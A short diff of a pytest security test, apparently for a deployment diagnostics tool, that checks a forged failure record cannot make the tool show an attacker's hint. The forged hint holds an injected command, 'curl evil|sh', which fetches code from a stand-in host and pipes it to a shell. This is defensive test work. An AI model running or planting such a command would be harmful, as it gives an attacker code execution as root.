@@ -60,9 +60,8 @@ def test_failed_ending_is_reported(history: list[Deployment], expected: list[str
 @pytest.mark.threat(65)
 def test_forged_hint_is_not_shown() -> None:
     """An attacker in the receiver can forge a record, and root types the doctor's hints."""
-    (found,) = check_last_deployment(
-        app(), [record(Status.FAILED, 1, cause="it does not import", hint="hookd deploy x; curl evil|sh")]
-    )
+    forged = {"kind": "hookd deploy x; curl evil|sh"}
+    (found,) = check_last_deployment(app(), [record(Status.FAILED, 1, cause="it does not import", hint=forged)])
     assert found.message == "the last deployment ended failed: it does not import"
     assert found.hint == "sudo hookd logs shop-20260801T120000000-00000a; sudo hookd deploy shop"
 
